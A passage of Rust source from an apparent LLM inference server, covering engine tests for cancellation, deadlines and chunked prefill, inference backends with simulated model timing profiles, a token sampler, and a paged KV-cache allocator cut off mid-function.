        // ...then abandon them: dropping the handle is the cancel signal.
        drop(g1);
        g2.cancel();
        assert!(
            metrics.wait_for_metric(
                "llm_cancelled_total{model=\"infinite\"} 2",
                Duration::from_secs(5)
            ),
            "engine never reaped abandoned slots: {}",
            metrics.render()
        );
        // Both slots and their KV pages are free again: a fresh request is
        // admitted and runs to its token limit.
        let (text, usage) = engine
            .generate(GenRequest { prompt: "c".into(), max_tokens: 5, ..Default::default() })
            .unwrap();
        assert_eq!(usage.finish_reason, "length");
        assert_eq!(text, "aaaaa");
    }

    #[test]
    fn explicit_cancel_aborts_like_a_drop() {
        // `Generation::cancel` must be observationally identical to dropping
        // the handle: the engine reaps the slot with "cancelled" either way.
        let (engine, metrics) = infinite_engine(1);
        let gen = engine
            .submit(GenRequest { prompt: "x".into(), max_tokens: 1_000_000, ..Default::default() });
        assert!(matches!(gen.rx.recv(), Ok(GenEvent::Token(_))));
        gen.cancel();
        assert!(
            metrics.wait_for_metric(
                "llm_cancelled_total{model=\"infinite\"} 1",
                Duration::from_secs(5)
            ),
            "cancel() did not abort: {}",
            metrics.render()
        );
        // The slot is reusable immediately, exactly as after a drop.
        let (_, usage) = engine
            .generate(GenRequest { prompt: "y".into(), max_tokens: 3, ..Default::default() })
            .unwrap();
        assert_eq!(usage.finish_reason, "length");
    }

    #[test]
    fn deadline_bounds_generation() {
        let (engine, metrics) = infinite_engine(2);
        let t = Instant::now();
        let (_, usage) = engine
            .generate(GenRequest {
                prompt: "x".into(),
                max_tokens: 1_000_000,
                deadline_ms: Some(60),
                ..Default::default()
            })
            .unwrap();
        assert_eq!(usage.finish_reason, "deadline");
        assert!(t.elapsed() < Duration::from_secs(5), "deadline ignored");
        assert!(usage.completion_tokens >= 1, "ran at least one step");
        assert!(metrics.render().contains("llm_deadline_total{model=\"infinite\"} 1"));
    }

    #[test]
    fn queued_request_deadline_expires_before_admission() {
        let (engine, _metrics) = infinite_engine(1);
        // Occupy the single batch slot indefinitely.
        let hog = engine.submit(GenRequest {
            prompt: "hog".into(),
            max_tokens: 1_000_000,
            ..Default::default()
        });
        assert!(matches!(hog.rx.recv(), Ok(GenEvent::Token(_))));
        // The queued request can never be admitted; its deadline answers it.
        let (text, usage) = engine
            .generate(GenRequest {
                prompt: "queued".into(),
                deadline_ms: Some(40),
                ..Default::default()
            })
            .unwrap();
        assert_eq!(usage.finish_reason, "deadline");
        assert_eq!(usage.completion_tokens, 0, "never reached a slot");
        assert!(text.is_empty());
        drop(hog);
    }

    #[test]
    fn run_to_completion_baseline_ignores_disconnects() {
        let metrics = Registry::new();
        let engine = Engine::start(
            Box::new(InfiniteBackend::new(1, Duration::from_millis(1))),
            EngineConfig { abort_on_disconnect: false, ..Default::default() },
            metrics.clone(),
        );
        let gen = engine
            .submit(GenRequest { prompt: "x".into(), max_tokens: 40, ..Default::default() });
        assert!(matches!(gen.rx.recv(), Ok(GenEvent::Token(_))));
        drop(gen); // abandoned — but the baseline engine must not notice
        assert!(
            metrics.wait_for_metric(
                "llm_tokens_generated_total{model=\"infinite\"} 40",
                Duration::from_secs(5)
            ),
            "baseline stopped early: {}",
            metrics.render()
        );
        assert!(metrics.render().contains("llm_cancelled_total{model=\"infinite\"} 0"));
    }

    // --- prefix cache + chunked prefill ----------------------------------

    /// Records how many prompt tokens each prefill call processed and the
    /// interleaving of prefill/decode calls.
    struct RecordingBackend {
        geometry: BatchGeometry,
        calls: Arc<std::sync::Mutex<Vec<String>>>,
    }

    impl RecordingBackend {
        fn new(batch: usize) -> (RecordingBackend, Arc<std::sync::Mutex<Vec<String>>>) {
            let calls = Arc::new(std::sync::Mutex::new(Vec::new()));
            (
                RecordingBackend {
                    geometry: BatchGeometry {
                        batch,
                        prefill_len: 32,
                        block_size: 8,
                        n_blocks: 257,
                        max_blocks: 32,
                        vocab: tokenizer::VOCAB,
                    },
                    calls: calls.clone(),
                },
                calls,
            )
        }

        fn one_hot(&self, rows: &[bool]) -> Vec<f32> {
            let v = self.geometry.vocab;
            let mut out = vec![0.0f32; self.geometry.batch * v];
            for (b, &on) in rows.iter().enumerate() {
                if on {
                    out[b * v + b'z' as usize] = 100.0;
                }
            }
            out
        }
    }

    impl Backend for RecordingBackend {
        fn geometry(&self) -> &BatchGeometry {
            &self.geometry
        }

        fn model_name(&self) -> &str {
            "recording"
        }

        fn prefill(
            &mut self,
            _tokens: &[i32],
            lens: &[i32],
            offsets: &[i32],
            _tables: &[i32],
        ) -> Result<Vec<f32>> {
            let total: i32 = lens.iter().sum();
            let off: i32 = offsets.iter().sum();
            self.calls.lock().unwrap().push(format!("P{total}@{off}"));
            let rows: Vec<bool> = lens.iter().map(|&l| l > 0).collect();
            Ok(self.one_hot(&rows))
        }

        fn decode(
            &mut self,
            _tokens: &[i32],
            _positions: &[i32],
            _tables: &[i32],
            active: &[bool],
        ) -> Result<Vec<f32>> {
            self.calls.lock().unwrap().push("D".into());
            Ok(self.one_hot(active))
        }
    }

    #[test]
    fn chunked_prefill_interleaves_with_decode() {
        let (backend, calls) = RecordingBackend::new(2);
        let engine = Engine::start(
            Box::new(backend),
            EngineConfig { prefill_chunk: 8, prefix_cache: false, ..Default::default() },
            Registry::new(),
        );
        // Slot A decodes while slot B's 60-token prompt prefills in chunks.
        let a = engine
            .submit(GenRequest { prompt: "a".into(), max_tokens: 64, ..Default::default() });
        assert!(matches!(a.rx.recv(), Ok(GenEvent::Token(_))), "A running");
        let b = engine.submit(GenRequest {
            prompt: "b".repeat(59), // + BOS = 60 tokens -> 8 chunks of ≤8
            max_tokens: 4,
            ..Default::default()
        });
        let (_, usage_b) = b.collect().unwrap();
        assert_eq!(usage_b.finish_reason, "length");
        drop(a);
        let log = calls.lock().unwrap().clone();
        // B's 60-token prompt took several bounded chunks (7×8 + 1×4)...
        let b_chunks =
            log.iter().filter(|c| c.starts_with("P8") || c.starts_with("P4")).count();
        assert_eq!(b_chunks, 8, "expected 8 bounded chunks, log: {log:?}");
        // ...and decode steps ran between them (no admission stall): slot A
        // kept decoding while B prefilled.
        let first_b_chunk = log.iter().position(|c| c.starts_with("P8")).unwrap();
        let last_b_chunk = log.iter().rposition(|c| c.starts_with("P4")).unwrap();
        let decodes_between =
            log[first_b_chunk..last_b_chunk].iter().filter(|c| c.as_str() == "D").count();
        assert!(
            decodes_between >= 3,
            "decode steps must interleave with prefill chunks, log: {log:?}"
        );
    }

    #[test]
    fn prefix_cache_skips_recomputing_shared_prefix() {
        let (backend, calls) = RecordingBackend::new(1);
        let engine = Engine::start(
            Box::new(backend),
            EngineConfig { prefill_chunk: 64, ..Default::default() },
            Registry::new(),
        );
        let prompt = "shared conversation history ".repeat(4); // 112 chars
        let (_, u1) = engine
            .generate(GenRequest { prompt: prompt.clone(), max_tokens: 2, ..Default::default() })
            .unwrap();
        assert_eq!(u1.cached_tokens, 0);
        let before = calls.lock().unwrap().len();
        let (_, u2) = engine
            .generate(GenRequest { prompt, max_tokens: 2, ..Default::default() })
            .unwrap();
        assert!(
            u2.cached_tokens > u2.prompt_tokens / 2,
            "cached {} of {}",
            u2.cached_tokens,
            u2.prompt_tokens
        );
        let log = calls.lock().unwrap().clone();
        // The second request's prefill covered only the uncached suffix.
        let second_prefills: Vec<&String> =
            log[before..].iter().filter(|c| c.starts_with('P')).collect();
        assert_eq!(second_prefills.len(), 1, "one suffix chunk, log: {log:?}");
        let processed: i32 = second_prefills[0][1..]
            .split('@')
            .next()
            .unwrap()
            .parse()
            .unwrap();
        assert!(
            (processed as usize) < u2.prompt_tokens / 2,
            "prefilled {processed} of {} prompt tokens",
            u2.prompt_tokens
        );
    }
}
