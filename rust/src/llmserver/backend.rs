//! Inference backends: real PJRT execution and a calibrated timing model.
//!
//! The engine drives a slot-indexed batch interface (`prefill` admits rows,
//! `decode` steps every active row). Two implementations:
//!
//! - [`PjrtBackend`] — the real thing: executes the AOT-compiled JAX/Pallas
//!   `tiny` model through the PJRT CPU client ([`crate::runtime`]).
//! - [`SimBackend`] — a timing model for the paper's production models
//!   (Intel Neural 7B, Mixtral 8x7B, Qwen1.5 72B, Llama3 70B — Table 2).
//!   No open weights offline and no H100s, so the *compute* is replaced by
//!   calibrated step delays while every byte of the serving path (batching,
//!   paging, streaming) stays identical.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use anyhow::Result;

use super::tokenizer;
use crate::runtime::{KvState, ModelRuntime};
use crate::util::clock::Clock;

/// Static batch geometry a backend exposes to the engine.
#[derive(Debug, Clone)]
pub struct BatchGeometry {
    pub batch: usize,
    pub prefill_len: usize,
    pub block_size: usize,
    pub n_blocks: usize,
    pub max_blocks: usize,
    pub vocab: usize,
}

/// Slot-indexed batched inference.
pub trait Backend: Send {
    fn geometry(&self) -> &BatchGeometry;
    fn model_name(&self) -> &str;

    /// Prefill rows: rows with `lens[b] > 0` process `lens[b]` prompt
    /// tokens starting at position `offsets[b]` (chunked prefill feeds a
    /// long prompt across several calls; a prefix-cache hit starts past
    /// zero). Rows with `lens[b] == 0` are inactive (scratch block tables
    /// expected). Returns `[batch * vocab]` logits; only the rows whose
    /// chunk reaches the end of their prompt yield meaningful logits.
    fn prefill(
        &mut self,
        tokens: &[i32],
        lens: &[i32],
        offsets: &[i32],
        block_tables: &[i32],
    ) -> Result<Vec<f32>>;

    /// One decode step. `active[b]` marks live rows; inactive rows must
    /// carry scratch tables and position 0.
    fn decode(
        &mut self,
        tokens: &[i32],
        positions: &[i32],
        block_tables: &[i32],
        active: &[bool],
    ) -> Result<Vec<f32>>;
}

// ---------------------------------------------------------------------------
// PJRT backend
// ---------------------------------------------------------------------------

/// Real model execution via PJRT.
pub struct PjrtBackend {
    runtime: ModelRuntime,
    kv: KvState,
    geometry: BatchGeometry,
}

impl PjrtBackend {
    pub fn new(runtime: ModelRuntime) -> Result<PjrtBackend> {
        let kv = runtime.fresh_kv()?;
        let s = &runtime.spec;
        let geometry = BatchGeometry {
            batch: s.batch,
            prefill_len: s.prefill_len,
            block_size: s.block_size,
            n_blocks: s.n_blocks,
            max_blocks: s.max_blocks,
            vocab: s.vocab,
        };
        Ok(PjrtBackend { runtime, kv, geometry })
    }

    pub fn load(artifacts_dir: &std::path::Path, model: &str) -> Result<PjrtBackend> {
        PjrtBackend::new(ModelRuntime::load_from_dir(artifacts_dir, model)?)
    }
}

impl Backend for PjrtBackend {
    fn geometry(&self) -> &BatchGeometry {
        &self.geometry
    }

    fn model_name(&self) -> &str {
        &self.runtime.spec.name
    }

    fn prefill(
        &mut self,
        tokens: &[i32],
        lens: &[i32],
        offsets: &[i32],
        block_tables: &[i32],
    ) -> Result<Vec<f32>> {
        // The AOT-compiled prefill HLO always starts at position 0 and
        // rewrites every page it touches, so chunked/cached prefill is not
        // expressible; `pjrt_engine` disables both (prefill_chunk = 0,
        // prefix_cache = false), which guarantees zero offsets here.
        if offsets.iter().any(|&o| o != 0) {
            anyhow::bail!("pjrt backend cannot prefill at a nonzero offset");
        }
        let out = self.runtime.prefill(&mut self.kv, tokens, lens, block_tables)?;
        Ok(out.logits)
    }

    fn decode(
        &mut self,
        tokens: &[i32],
        positions: &[i32],
        block_tables: &[i32],
        _active: &[bool],
    ) -> Result<Vec<f32>> {
        let out = self.runtime.decode(&mut self.kv, tokens, positions, block_tables)?;
        Ok(out.logits)
    }
}

// ---------------------------------------------------------------------------
// Simulated backend
// ---------------------------------------------------------------------------

/// Timing/behaviour profile for a simulated production model.
#[derive(Debug, Clone)]
pub struct SimProfile {
    pub name: String,
    /// Max concurrent sequences on one instance (vLLM running batch).
    pub batch: usize,
    /// Prefill latency charged per admission call.
    pub prefill_ms: f64,
    /// Decode step latency: `base + per_seq * active_rows`.
    pub step_ms_base: f64,
    pub step_ms_per_seq: f64,
    /// GPUs one instance occupies (drives the Slurm job request).
    pub gpus: u32,
    /// Model load time at job start (the paper's cold-start pain, §7.1.1:
    /// up to ten minutes for 70B models).
    pub load_secs: f64,
    /// Canned completion the sim emits (Table 2 uses "count from 1 to 10").
    pub completion: String,
}

impl SimProfile {
    /// Calibrated against Table 2 (sentence = "1 2 ... 10" ≈ 20 tokens,
    /// running batch 8): sentence throughput ≈ batch / (prefill + 20·step).
    pub fn by_name(name: &str) -> Option<SimProfile> {
        let (batch, prefill_ms, base, per_seq, gpus, load_secs) = match name {
            // ≈ 8/(0.06+20*0.0148) ≈ 27 RPS sentence; ≈ 8/0.075 ≈ 107 word.
            "intel-neural-7b" => (8, 60.0, 12.0, 0.35, 1, 30.0),
            "llama3-8b" => (8, 60.0, 13.0, 0.4, 1, 35.0),
            // ≈ 8/(0.08+20*0.047) ≈ 7.8 RPS.
            "mixtral-8x7b" => (8, 80.0, 40.0, 0.9, 2, 120.0),
            // ≈ 8/(0.12+20*0.19) ≈ 2.0 RPS.
            "qwen1.5-72b" => (8, 120.0, 160.0, 3.8, 4, 480.0),
            "llama3-70b" => (8, 120.0, 160.0, 3.8, 4, 600.0),
            _ => return None,
        };
        Some(SimProfile {
            name: name.to_string(),
            batch,
            prefill_ms,
            step_ms_base: base,
            step_ms_per_seq: per_seq,
            gpus,
            load_secs,
            completion: "1 2 3 4 5 6 7 8 9 10".into(),
        })
    }

    pub fn known_models() -> &'static [&'static str] {
        &["intel-neural-7b", "llama3-8b", "mixtral-8x7b", "qwen1.5-72b", "llama3-70b"]
    }
}

/// Behavioural + timing simulation of a vLLM instance.
pub struct SimBackend {
    profile: SimProfile,
    geometry: BatchGeometry,
    /// Wall-time multiplier: 1.0 = realistic delays, 0.0 = as fast as
    /// possible (unit tests), <1 = sped-up benches.
    time_scale: f64,
    /// Where compute time is charged. `None` = the wall clock
    /// (`thread::sleep`, the serving default); a `SimClock` makes a charge
    /// advance virtual time instead, so the discrete-event harness pays
    /// model latencies in simulated microseconds rather than CPU seconds.
    clock: Option<Arc<dyn Clock>>,
    /// Gray-failure dial, in thousandths: every compute charge is scaled
    /// by `slowdown_milli / 1000` (1000 = healthy). Shared via
    /// [`SimBackend::slowdown_handle`] so the fault plane can degrade a
    /// live instance without touching the engine.
    slowdown_milli: Arc<AtomicU64>,
    /// Per-slot emitted-byte counters into `profile.completion`.
    progress: Vec<usize>,
}

impl SimBackend {
    pub fn new(profile: SimProfile, time_scale: f64) -> SimBackend {
        let geometry = BatchGeometry {
            batch: profile.batch,
            prefill_len: 512,
            block_size: 16,
            n_blocks: 16 * profile.batch + 1,
            max_blocks: 64,
            vocab: tokenizer::VOCAB,
        };
        let progress = vec![0; profile.batch];
        SimBackend {
            profile,
            geometry,
            time_scale,
            clock: None,
            slowdown_milli: Arc::new(AtomicU64::new(1000)),
            progress,
        }
    }

    pub fn by_name(name: &str, time_scale: f64) -> Option<SimBackend> {
        SimProfile::by_name(name).map(|p| SimBackend::new(p, time_scale))
    }

    /// Charge compute to an injected clock instead of `thread::sleep`.
    /// With a `SimClock`, a decode step advances virtual time by its
    /// calibrated cost and returns immediately.
    pub fn with_clock(mut self, clock: Arc<dyn Clock>) -> SimBackend {
        self.clock = Some(clock);
        self
    }

    /// Handle to this instance's gray-failure dial. Store `factor × 1000`
    /// (`1000` = healthy, `5000` = 5× slower) to degrade every subsequent
    /// compute charge; the fault plane uses this to model a gray node that
    /// still passes health probes.
    pub fn slowdown_handle(&self) -> Arc<AtomicU64> {
        self.slowdown_milli.clone()
    }

    fn charge(&self, ms: f64) {
        let ms = ms * self.slowdown_milli.load(Ordering::Relaxed) as f64 / 1000.0;
        if self.time_scale > 0.0 && ms > 0.0 {
            let d = std::time::Duration::from_secs_f64(ms * self.time_scale / 1000.0);
            match &self.clock {
                Some(c) => c.sleep(d),
                None => std::thread::sleep(d),
            }
        }
    }

    /// One-hot "logits" peaking at the chosen next token.
    fn one_hot(&self, rows: &[i32]) -> Vec<f32> {
        let v = self.geometry.vocab;
        let mut out = vec![0.0f32; self.geometry.batch * v];
        for (b, &tok) in rows.iter().enumerate() {
            if tok >= 0 {
                out[b * v + tok as usize] = 100.0;
            }
        }
        out
    }

    fn next_token_for_slot(&mut self, b: usize) -> i32 {
        let bytes = self.profile.completion.as_bytes();
        let i = self.progress[b];
        if i < bytes.len() {
            self.progress[b] += 1;
            bytes[i] as i32
        } else {
            tokenizer::EOS
        }
    }
}

impl Backend for SimBackend {
    fn geometry(&self) -> &BatchGeometry {
        &self.geometry
    }

    fn model_name(&self) -> &str {
        &self.profile.name
    }

    fn prefill(
        &mut self,
        _tokens: &[i32],
        lens: &[i32],
        _offsets: &[i32],
        _block_tables: &[i32],
    ) -> Result<Vec<f32>> {
        // Prefill compute is charged proportional to the tokens actually
        // processed this call: a prefix-cache hit (or a bounded chunk)
        // costs only its uncached share. `prefill_ms` is calibrated as the
        // cost of one full `prefill_len` window.
        let total: i64 = lens.iter().map(|&l| l.max(0) as i64).sum();
        self.charge(
            self.profile.prefill_ms * total as f64 / self.geometry.prefill_len as f64,
        );
        let mut rows = vec![-1i32; self.geometry.batch];
        for (b, &len) in lens.iter().enumerate() {
            if len > 0 {
                // (Re)arm the slot's completion stream. Intermediate chunks
                // of a chunked prefill reset it again, so only the chunk
                // that completes the prompt — the one whose logits the
                // engine samples — determines the first emitted byte.
                self.progress[b] = 0;
                rows[b] = self.next_token_for_slot(b);
            }
        }
        Ok(self.one_hot(&rows))
    }

    fn decode(
        &mut self,
        _tokens: &[i32],
        _positions: &[i32],
        _block_tables: &[i32],
        active: &[bool],
    ) -> Result<Vec<f32>> {
        let n_active = active.iter().filter(|&&a| a).count();
        self.charge(self.profile.step_ms_base + self.profile.step_ms_per_seq * n_active as f64);
        let mut rows = vec![-1i32; self.geometry.batch];
        for (b, &is_active) in active.iter().enumerate() {
            if is_active {
                rows[b] = self.next_token_for_slot(b);
            }
        }
        Ok(self.one_hot(&rows))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn profiles_exist_and_are_ordered() {
        let p7 = SimProfile::by_name("intel-neural-7b").unwrap();
        let pm = SimProfile::by_name("mixtral-8x7b").unwrap();
        let p70 = SimProfile::by_name("llama3-70b").unwrap();
        assert!(p7.step_ms_base < pm.step_ms_base);
        assert!(pm.step_ms_base < p70.step_ms_base);
        assert!(p7.gpus < p70.gpus);
        assert!(SimProfile::by_name("gpt-9000").is_none());
        for m in SimProfile::known_models() {
            assert!(SimProfile::by_name(m).is_some());
        }
    }

    #[test]
    fn sim_emits_completion_then_eos() {
        let mut b = SimBackend::by_name("intel-neural-7b", 0.0).unwrap();
        let g = b.geometry().clone();
        let mut lens = vec![0i32; g.batch];
        lens[0] = 3;
        let offsets = vec![0i32; g.batch];
        let logits = b.prefill(&[], &lens, &offsets, &[]).unwrap();
        let argmax = |logits: &[f32], row: usize| -> i32 {
            let r = &logits[row * g.vocab..(row + 1) * g.vocab];
            r.iter().enumerate().max_by(|a, b| a.1.partial_cmp(b.1).unwrap()).unwrap().0 as i32
        };
        let mut text = Vec::new();
        let mut tok = argmax(&logits, 0);
        let mut active = vec![false; g.batch];
        active[0] = true;
        while tok != tokenizer::EOS && text.len() < 100 {
            text.push(tok);
            let logits = b.decode(&[], &[], &[], &active).unwrap();
            tok = argmax(&logits, 0);
        }
        assert_eq!(tokenizer::decode(&text), "1 2 3 4 5 6 7 8 9 10");
    }

    #[test]
    fn sim_rows_independent() {
        let mut b = SimBackend::by_name("intel-neural-7b", 0.0).unwrap();
        let g = b.geometry().clone();
        let mut lens = vec![0i32; g.batch];
        lens[0] = 3;
        let offsets = vec![0i32; g.batch];
        let _ = b.prefill(&[], &lens, &offsets, &[]).unwrap();
        // Admit row 1 later: row 0's progress must be unaffected.
        let p0 = b.progress[0];
        let mut lens2 = vec![0i32; g.batch];
        lens2[1] = 5;
        let _ = b.prefill(&[], &lens2, &offsets, &[]).unwrap();
        assert_eq!(b.progress[0], p0);
        assert_eq!(b.progress[1], 1);
    }

    #[test]
    fn prefill_charge_scales_with_tokens_processed() {
        // 1.0 time scale, tiny chunks: the proportional model must charge
        // far less for a 16-token chunk than a full 512-token window.
        let mut b = SimBackend::by_name("qwen1.5-72b", 1.0).unwrap();
        let g = b.geometry().clone();
        let mut lens = vec![0i32; g.batch];
        lens[0] = 16;
        let offsets = vec![0i32; g.batch];
        let t = std::time::Instant::now();
        let _ = b.prefill(&[], &lens, &offsets, &[]).unwrap();
        let small = t.elapsed();
        // Full window: prefill_ms (120 ms) in one call.
        let mut lens_full = vec![0i32; g.batch];
        lens_full[0] = g.prefill_len as i32;
        let t = std::time::Instant::now();
        let _ = b.prefill(&[], &lens_full, &offsets, &[]).unwrap();
        let full = t.elapsed();
        assert!(
            small < full / 4,
            "chunk charge not proportional: {small:?} vs {full:?}"
        );
    }

    #[test]
    fn charge_goes_to_the_injected_clock() {
        use crate::util::clock::SimClock;
        let clock = SimClock::new();
        let mut b = SimBackend::by_name("llama3-70b", 1.0).unwrap().with_clock(clock.clone());
        let g = b.geometry().clone();
        let active = vec![true; g.batch];
        let t = std::time::Instant::now();
        let _ = b.decode(&[], &[], &[], &active).unwrap();
        // step = 160 + 3.8*8 = 190.4 ms — charged virtually, not slept.
        assert!(t.elapsed().as_millis() < 100, "charge hit the wall clock");
        let us = clock.now_us();
        assert!((190_000..191_000).contains(&us), "virtual charge off: {us}");
    }

    #[test]
    fn slowdown_dial_scales_the_charge() {
        use crate::util::clock::SimClock;
        let clock = SimClock::new();
        let mut b = SimBackend::by_name("llama3-70b", 1.0).unwrap().with_clock(clock.clone());
        let dial = b.slowdown_handle();
        let g = b.geometry().clone();
        let active = vec![true; g.batch];
        let _ = b.decode(&[], &[], &[], &active).unwrap();
        let healthy = clock.now_us();
        // Gray node: 5× slower; the same step must now charge 5× the time.
        dial.store(5000, Ordering::Relaxed);
        let _ = b.decode(&[], &[], &[], &active).unwrap();
        let gray = clock.now_us() - healthy;
        assert!(
            (healthy * 5).abs_diff(gray) <= 5,
            "gray charge not 5x: healthy={healthy} gray={gray}"
        );
        // Recovery restores the calibrated cost exactly.
        dial.store(1000, Ordering::Relaxed);
        let before = clock.now_us();
        let _ = b.decode(&[], &[], &[], &active).unwrap();
        assert_eq!(clock.now_us() - before, healthy);
    }

    #[test]
    fn time_scale_zero_is_fast() {
        let mut b = SimBackend::by_name("llama3-70b", 0.0).unwrap();
        let g = b.geometry().clone();
        let t = std::time::Instant::now();
        let active = vec![true; g.batch];
        for _ in 0..100 {
            let _ = b.decode(&[], &[], &[], &active).unwrap();
        }
        assert!(t.elapsed().as_millis() < 500);
    }
}
