//! Token sampling: greedy, temperature, top-k.

use crate::util::rng::Rng;

/// Per-request sampling parameters (OpenAI API surface).
#[derive(Debug, Clone)]
pub struct SamplingParams {
    /// 0.0 = greedy argmax.
    pub temperature: f64,
    /// 0 = no truncation.
    pub top_k: usize,
    pub seed: u64,
}

impl Default for SamplingParams {
    fn default() -> SamplingParams {
        SamplingParams { temperature: 0.0, top_k: 0, seed: 0 }
    }
}

/// Sample one token id from a logits row.
pub fn sample(logits: &[f32], params: &SamplingParams, rng: &mut Rng) -> i32 {
    if params.temperature <= 0.0 {
        return argmax(logits);
    }
    // Collect (logit, id), optionally truncate to top-k, then softmax-sample.
    let mut items: Vec<(f32, usize)> =
        logits.iter().copied().zip(0..logits.len()).collect();
    if params.top_k > 0 && params.top_k < items.len() {
        items.sort_by(|a, b| b.0.partial_cmp(&a.0).unwrap());
        items.truncate(params.top_k);
    }
    let inv_t = 1.0 / params.temperature as f32;
    let max = items.iter().map(|(l, _)| *l).fold(f32::NEG_INFINITY, f32::max);
    let weights: Vec<f64> =
        items.iter().map(|(l, _)| (((l - max) * inv_t) as f64).exp()).collect();
    let total: f64 = weights.iter().sum();
    let mut target = rng.f64() * total;
    for ((_, id), w) in items.iter().zip(&weights) {
        target -= w;
        if target <= 0.0 {
            return *id as i32;
        }
    }
    items.last().map(|(_, id)| *id as i32).unwrap_or(0)
}

pub fn argmax(logits: &[f32]) -> i32 {
    logits
        .iter()
        .enumerate()
        .max_by(|a, b| a.1.partial_cmp(b.1).unwrap())
        .map(|(i, _)| i as i32)
        .unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn greedy_picks_max() {
        let logits = vec![0.1, 5.0, -2.0, 4.9];
        assert_eq!(sample(&logits, &SamplingParams::default(), &mut Rng::new(0)), 1);
    }

    #[test]
    fn temperature_zero_matches_argmax() {
        let logits: Vec<f32> = (0..100).map(|i| ((i * 37) % 83) as f32).collect();
        assert_eq!(
            sample(&logits, &SamplingParams::default(), &mut Rng::new(1)),
            argmax(&logits)
        );
    }

    #[test]
    fn high_temperature_explores() {
        let logits = vec![1.0f32; 50];
        let mut rng = Rng::new(2);
        let p = SamplingParams { temperature: 1.0, top_k: 0, seed: 0 };
        let seen: std::collections::BTreeSet<i32> =
            (0..200).map(|_| sample(&logits, &p, &mut rng)).collect();
        assert!(seen.len() > 20, "uniform logits must sample many ids, got {}", seen.len());
    }

    #[test]
    fn top_k_restricts_support() {
        let mut logits = vec![0.0f32; 20];
        logits[3] = 10.0;
        logits[7] = 9.0;
        let p = SamplingParams { temperature: 2.0, top_k: 2, seed: 0 };
        let mut rng = Rng::new(3);
        for _ in 0..100 {
            let t = sample(&logits, &p, &mut rng);
            assert!(t == 3 || t == 7, "sampled {t} outside top-2");
        }
    }

    #[test]
    fn low_temperature_concentrates() {
        let mut logits = vec![0.0f32; 10];
        logits[4] = 3.0;
        let p = SamplingParams { temperature: 0.1, top_k: 0, seed: 0 };
        let mut rng = Rng::new(4);
        let hits = (0..100).filter(|_| sample(&logits, &p, &mut rng) == 4).count();
        assert!(hits > 95, "hits={hits}");
    }
}
