//! Paged KV-cache block allocator — vLLM's PagedAttention memory manager.
//!
//! A fixed pool of `n_blocks` pages (each holding `block_size` token
//! positions of K/V for all layers) is shared by every sequence in the
//! engine. Sequences get pages appended on demand as they grow and return
//! them on completion, so memory waste is bounded by one partial page per
//! sequence (the paper's "near-zero waste in key-value cache memory", §2).
//!
//! Block 0 is reserved as the scratch page: inactive batch slots point
//! their entire block table at it so the static-shape HLO always has
//! somewhere safe to write.

use anyhow::{bail, Result};

/// Allocator over the shared page pool.
pub struct BlockAllocator {
    n_blocks: usize,
    block_size: usize,
    max_blocks_per_seq: usize,
    free: Vec<u32>,
    /// Which sequence owns each block (None = free, Some(owner)); index 0 is
    /// the scratch block and is never allocated.
    owner: Vec<Option<u64>>,
}

/// Per-sequence cache state.
#[derive(Debug, Clone)]
pub struct SeqBlocks {
    pub seq_id: u64,
    /// Allocated pool pages, in position order.
    blocks: Vec<u32>,
    /// Token positions written so far.
    pub len: usize,
}

impl BlockAllocator {
    pub fn new(n_blocks: usize, block_size: usize, max_blocks_per_seq: usize) -> BlockAllocator {
        assert!(n_blocks >= 2, "need at least scratch + one real block");
        BlockAllocator {
            n_blocks,
            block_size,
            max_blocks_per_seq,
            // LIFO free list: recently-freed (cache-warm) pages reused first.
            free: (1..n_blocks as u32).rev().collect(),
            owner: vec![None; n_blocks],
        }
    }

    pub fn free_blocks(&self) -> usize {
        self.free.len()
    }

    pub fn block_size(&self) -> usize {
        self.block_size
    }

    /// Pages needed to hold `tokens` positions.
    pub fn blocks_for(&self, tokens: usize) -> usize {
        tokens.div_ceil(self.block_size)
    }

    /// Can a new sequence of `prompt_len` tokens be admitted right now?
    pub fn can_admit(&self, prompt_len: usize) -> bool {
        self.blocks_for(prompt_len.max(1)) <= self.free.len()
    }

    /// Create a sequence and allocate pages for its prompt.
    pub fn create_seq(&mut self, seq_id: u64, prompt_len: usize) -> Result<SeqBlocks> {
        let need = self.blocks_for(prompt_len.max(1));
        if need > self.max_blocks_per_seq {
            bail!("prompt of {prompt_len} tokens exceeds max sequence capacity");
        }
        if need > self.free.len() {
            bail!("kv cache exhausted: need {need} pages, {} free", self.free.len());
        }
        let mut blocks = Vec::with_capacity(need);
        for _ in 0..need {
            let b = self.free.pop().unwrap();
            self.owner[b as usize] = Some(seq_id);
            blocks.push(b);
        }
        Ok(SeqBlocks { seq_id, blocks, len: prompt_len })
    }

    /// Grow a sequence by one token, allocating a page on a boundary.
    /// Returns `false` (sequence must be preempted/finished) when the pool
    /// is exhausted or the sequence hit its max length.
    pub fn append_token(&mut self, seq: &mut SeqBlocks) -> Result<bool> {
        let needed = self.blocks_for(seq.len + 1);
        if needed > self.max_blocks_per_seq {
            return Ok(false); // sequence is at max context
        }
        if needed > seq.blocks.len() {
            let Some(b) = self.free.pop() else {
                return Ok(false); // pool exhausted
            };
            self.owner[b as usize] = Some(seq.seq_id);
            seq.blocks.push(b);
        }
        seq.len += 1;
        Ok(true)
    }

    /// Return all of a sequence's pages to the pool.
    pub fn free_seq(&mut self, seq: &SeqBlocks) {
        for &b in &seq.blocks {
            debug_assert_eq!(self.owner[b as usize], Some(seq.seq_id));
            self.owner[b as usize] = None;
            self.free.push(b);
        }
    }

    /// Render the fixed-width block-table row the HLO expects (scratch-page
    /// padded to `max_blocks_per_seq`).
    pub fn table_row(&self, seq: &SeqBlocks) -> Vec<i32> {
        let mut row = vec![0i32; self.max_blocks_per_seq];
        for (i, &b) in seq.blocks.iter().enumerate() {
            row[i] = b as i32;
        }
        row
    }

    /// A row of pure scratch (inactive slot).
    pub fn scratch_row(&self) -> Vec<i32> {
        vec![0i32; self.max_blocks_per_seq]
    }

    /// Invariant check for property tests.
    pub fn check_invariants(&self, live: &[&SeqBlocks]) -> Result<(), String> {
        let mut seen = vec![false; self.n_blocks];
        seen[0] = true; // scratch
        for &b in &self.free {
            if b == 0 {
                return Err("scratch block on free list".into());
            }
            if seen[b as usize] {
                return Err(format!("block {b} double-listed"));
            }
            if self.owner[b as usize].is_some() {
                return Err(format!("free block {b} has an owner"));
            }
            seen[b as usize] = true;
        }
        for seq in live {
            for &b in &seq.blocks {
                if seen[b as usize] {
